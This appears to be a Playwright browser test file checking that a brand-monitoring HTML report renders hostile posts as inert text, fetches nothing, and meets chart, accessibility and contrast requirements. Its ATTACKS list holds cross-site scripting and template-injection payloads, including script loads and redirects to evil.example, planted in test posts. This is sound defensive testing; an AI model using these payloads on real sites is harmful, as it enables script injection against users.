"""The report in a real browser: hostile posts are inert text, nothing is fetched, charts are seen, also on a phone."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from itertools import pairwise
from pathlib import Path
from typing import Any, Literal

import pytest
from playwright.sync_api import Browser, Page

from schemas.alerts import Alert, Exemplar
from schemas.cases import Case, CaseEvent
from schemas.enriched import (
    Authenticity,
    EnrichedPost,
    Flag,
    Intent,
    Provenance,
    Sentiment,
    Severity,
    TopicRef,
    Translation,
)
from schemas.identity import from_millis, identity, to_millis
from schemas.raw import Author, Rating
from sinks.base import Status
from sinks.documents import alert_document, case_document, post_document
from sinks.memory import MemorySink
from streams.report import summarise, write_report

pytestmark = pytest.mark.browser
START = datetime(2026, 3, 2, 9, tzinfo=UTC)
ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "\"><svg onload=alert(3)><a href='javascript:alert(4)'>x</a>",
    "javascript:alert(5)",
    "</title></style></blockquote></svg><script src=https://evil.example/x.js></script>",
    "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><iframe srcdoc='<script>alert(6)</script>'></iframe>",
    "\u202eevil\u202c \u2066left\u2069 --> <!-- ]]> &lt;b&gt; &#x3c;script&#x3e;",
    "' onmouseover='alert(7)' x='",
    "W" * 400,
)


def post(number: int, text: str, *, day: float, **fields: Any) -> EnrichedPost:
    raw = {"id": str(number), "source": "shop.example", "channel": "review", "brand": "Lumo", **fields}
    return EnrichedPost(
        **{
            "identity": identity(raw["channel"], raw["source"], raw["id"]),
            "version": 1,
            "event_time": from_millis(to_millis(START + timedelta(days=day))),
            "text": text,
            "clean_text": text,
            **raw,
        }
    )


def attacks() -> Iterator[EnrichedPost]:
    """Each attack in every field that a report shows."""
    for number, attack in enumerate(ATTACKS):
        yield post(
            number,
            f"text {attack}",
            day=number,
            channel=attack,
            source=attack,
            title=f"title {attack}",
            url=("javascript:alert(8)", "https://shop.example/?q=\"'><script>alert(9)</script>")[number % 2],
            language="es" if number % 2 else attack,
            author=Author(handle=attack, name=attack, followers=50_000),
            product=attack,
            place=attack,
            rating=Rating(value=1),
            translation=Translation(status="translated", text=f"English {attack}"),
            sentiment=Sentiment(status="scored", label="negative", score=-0.9, confidence=0.9),
            severity=Severity(score=0.9 - number / 100, negativity=0.9, reach=0.9),
            intents=[Intent(label="suggestion", confidence=0.9)],
            topics=[
                TopicRef(status="assigned", id=f"t{number}", label=attack),
                TopicRef(status="assigned", id=f"u{number}", label=attack),
            ],
            authenticity=Authenticity(flags=[Flag(name=attack, evidence=attack)]),
            provenance=Provenance(failed={attack: attack}),
        )


def crowd() -> Iterator[EnrichedPost]:
    """Six ordinary weeks with one bad day in one place, and a source that knows only five stars."""
    labels: tuple[Literal["negative", "neutral", "positive"], ...] = ("negative", "neutral", "positive")
    for number in range(250):
        spike = number >= 210
        label = "negative" if spike else labels[number % 3]
        shiny = number % 9 == 0 and not spike
        yield post(
            1000 + number,
            "El pedido no llegó" if number % 2 else "A dress like any other",
            day=22 + number / 1000 if spike else number % 42,
            source="shiny.example" if shiny else "shop.example",
            language=("es", "en", "it", "de", "ar")[number % 5],
            product="Alba dress",
            place="Valencia" if spike else "Roma",
            rating=Rating(value=5 if shiny else 1 + number % 5),
            sentiment=Sentiment(status="scored", label=label, score=0.1, confidence=0.9),
            translation=Translation(status="unsupported" if number % 5 > 2 else "identity"),
            topics=[TopicRef(status="assigned", id=f"topic-{number % 4}", label=f"topic number {number % 4}")],
        )


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    attack = " ".join(ATTACKS[:5])
    since = from_millis(to_millis(START + timedelta(days=22)))
    sink = MemorySink()
    alert = Alert(
        id="a",
        series="brand=Lumo/place=Valencia",
        brand="Lumo",
        dimension="place",
        value="Valencia",
        state="started",
        version=1,
        since=since,
        at=since,
        window_seconds=86400,
        observed=40,
        expected=0.5,
        score=20,
        exemplars=[Exemplar(identity="x", excerpt=attack, translation=f"exemplar {attack}")],
        topics=[attack],
    )
    case = Case(
        id="c",
        identity="x",
        version=1,
        brand=attack,
        state="recovered",
        opened_at=since,
        updated_at=since,
        channel=attack,
        source=attack,
        post_id="1",
        author=attack,
        product=attack,
        place=attack,
        excerpt=f"case {attack}",
        translation=attack,
        history=[CaseEvent(at=attack, action=attack)],
    )
    written = [*(post_document(one) for one in (*attacks(), *crowd())), alert_document(alert), case_document(case)]
    assert {outcome.status for outcome in sink.write(written)} == {Status.WRITTEN}
    path = tmp_path_factory.mktemp("report") / "report.html"
    write_report(summarise(sink, dead_letters=1), path)
    return path


@dataclass
class Seen:
    """What a page did while it was looked at."""

    page: Page
    dialogs: list[str] = field(default_factory=list)
    console: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)


def look(browser: Browser, path: Path, width: int, scheme: Literal["light", "dark"]) -> Seen:
    """The page after every part of it was opened, hovered over and scrolled to."""
    page = browser.new_page(viewport={"width": width, "height": 900}, color_scheme=scheme)
    seen = Seen(page)

    def dismissed(dialog: Any) -> None:
        seen.dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismissed)
    page.on("console", lambda message: seen.console.append(message.text))
    page.on("pageerror", lambda error: seen.console.append(str(error)))
    page.on("request", lambda request: seen.requests.append(request.url))
    page.goto(path.as_uri())
    page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
    for blockquote in page.locator("blockquote").all()[:8]:
        blockquote.hover()
    page.evaluate("window.scrollTo(0, document.body.scrollHeight)")
    page.wait_for_timeout(200)
    return seen


@pytest.fixture(scope="module", params=[(1280, "light"), (390, "dark"), (390, "light")], ids=str)
def seen(request: pytest.FixtureRequest, chromium: Browser, report: Path) -> Iterator[Seen]:
    width, scheme = request.param
    made = look(chromium, report, width, scheme)
    yield made
    made.page.close()


def test_nothing_in_a_post_runs_or_fetches(seen: Seen, report: Path) -> None:
    assert seen.dialogs == []
    assert seen.console == []
    assert seen.requests == [report.as_uri()]
    assert seen.page.url == report.as_uri()


def test_the_page_holds_nothing_that_could_run(seen: Seen) -> None:
    foreign = "script, iframe, object, embed, form, base, img, link:not([href='data:,']), meta[http-equiv=refresh]"
    assert seen.page.locator(foreign).count() == 0
    found = seen.page.evaluate(
        """() => [...document.querySelectorAll('*')].flatMap(element => [...element.attributes]
            .filter(one => one.name.startsWith('on') || one.name.endsWith('href') && element.tagName !== 'LINK'
                    && !/^(https?:|#)/.test(one.value))
            .map(one => element.tagName + ' ' + one.name))"""
    )
    assert found == []
    assert seen.page.locator("style").count() == 1


def test_a_scripted_page_would_be_stopped_by_its_policy(chromium: Browser, report: Path, tmp_path: Path) -> None:
    """The second line of defence: even if a post's markup did get in, the policy would not let it run."""
    broken = tmp_path / "broken.html"
    text = report.read_text(encoding="utf-8")
    broken.write_text(text.replace("</main>", "<img src=x onerror=alert(1)><script>alert(2)</script></main>"), "utf-8")
    made = look(chromium, broken, 1280, "light")
    assert made.dialogs == []
    assert len([line for line in made.console if "Content Security Policy" in line]) >= 2
    made.page.close()


def test_links_are_only_to_the_web_and_give_nothing_away(seen: Seen) -> None:
    links = seen.page.locator("main a[href^=http]")
    assert links.count() > 0
    for link in links.all():
        assert set((link.get_attribute("rel") or "").split()) == {"noopener", "noreferrer", "nofollow"}


def test_hostile_words_are_shown_literally(seen: Seen) -> None:
    shown = seen.page.locator("#complaints").inner_text()
    for attack in ATTACKS[:10]:
        assert f"text {attack}" in shown
        assert f"English {attack}" in shown
    shown = seen.page.locator("#cases").inner_text()
    assert all(f"{attack}" in shown for attack in ATTACKS[:3])


def test_charts_are_seen(seen: Seen) -> None:
    page = seen.page
    for chart in page.locator("figure.chart svg").all():
        box = chart.bounding_box()
        assert box is not None
        assert box["width"] > 200
        assert box["height"] > 100
        assert chart.get_attribute("aria-label")
    assert page.locator("figure.chart svg").count() == 2
    sizes = page.evaluate(
        """() => [...document.querySelectorAll('#sentiment figure rect')].map(one => {
            const box = one.getBoundingClientRect(), frame = one.ownerSVGElement.getBoundingClientRect();
            return [box.width, box.height, getComputedStyle(one).fill,
                    box.left >= frame.left - 1 && box.right <= frame.right + 1 && box.top >= frame.top - 1] })"""
    )
    assert len(sizes) > 40
    assert all(width > 0.5 and height > 0.5 and inside for width, height, _, inside in sizes)
    assert len({fill for _, _, fill, _ in sizes}) == 3  # negative, neutral, positive: no post here is unscored
    for selector in ("svg.meter", "svg.stack"):
        assert page.locator(selector).count() > 3
    assert page.locator("#spikes .flag").inner_text().startswith("place Valencia")
    assert page.locator("#ratings tr.out").inner_text().startswith("shiny.example")


def test_nothing_is_cut_off_or_scrolls_sideways(seen: Seen) -> None:
    widths = seen.page.evaluate("[document.documentElement.scrollWidth, window.innerWidth]")
    assert widths[0] <= widths[1]


def test_it_can_be_read_without_eyes(seen: Seen) -> None:
    page = seen.page
    levels = page.evaluate("[...document.querySelectorAll('h1,h2,h3,h4,h5,h6')].map(one => +one.tagName[1])")
    assert levels[0] == 1
    assert levels.count(1) == 1
    assert all(after - before <= 1 for before, after in pairwise(levels))
    assert page.evaluate("[...document.querySelectorAll('svg[role=img]')].every(one => one.getAttribute('aria-label'))")
    assert page.evaluate("[...document.querySelectorAll('th')].every(one => one.scope)")
    assert page.evaluate("[...document.querySelectorAll('table')].every(one => one.caption)")
    assert page.locator("blockquote[lang=es][dir=auto]").count() > 0
    languages = page.evaluate("[...document.querySelectorAll('[lang]')].map(one => one.lang)")
    assert set(languages) <= {"", "en", "es", "it", "de", "ar"}


def test_text_has_enough_contrast_in_both_schemes(seen: Seen) -> None:
    """WCAG 2.2, 1.4.3 (AA): 4.5 to 1 for text of this size."""
    worst = seen.page.evaluate(
        """() => {
        const parse = text => text.match(/[\\d.]+/g).map(Number);
        const light = ([r, g, b]) => { const [x, y, z] = [r, g, b].map(v => { v /= 255;
            return v <= .03928 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4 }); return .2126 * x + .7152 * y + .0722 * z };
        const behind = one => { for (; one; one = one.parentElement) {
            const colour = parse(getComputedStyle(one).backgroundColor);
            if (colour.length < 4 || colour[3] > 0) return colour } return [255, 255, 255] };
        const found = [];
        const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
        while (walker.nextNode()) { const one = walker.currentNode.parentElement;
            if (!walker.currentNode.data.trim() || one.closest('svg')) continue;
            const [a, b] = [light(parse(getComputedStyle(one).color)), light(behind(one))].sort((x, y) => y - x);
            found.push([(a + .05) / (b + .05), one.tagName + '.' + one.className]) }
        return found.sort((x, y) => x[0] - y[0])[0] }"""
    )
    assert worst[0] >= 4.5, worst


def test_dark_and_light_differ(chromium: Browser, report: Path) -> None:
    colours = []
    for scheme in ("light", "dark"):
        made = look(chromium, report, 1280, scheme)  # type: ignore[arg-type]
        colours.append(made.page.evaluate("getComputedStyle(document.body).backgroundColor"))
        made.page.close()
    assert len(set(colours)) == 2
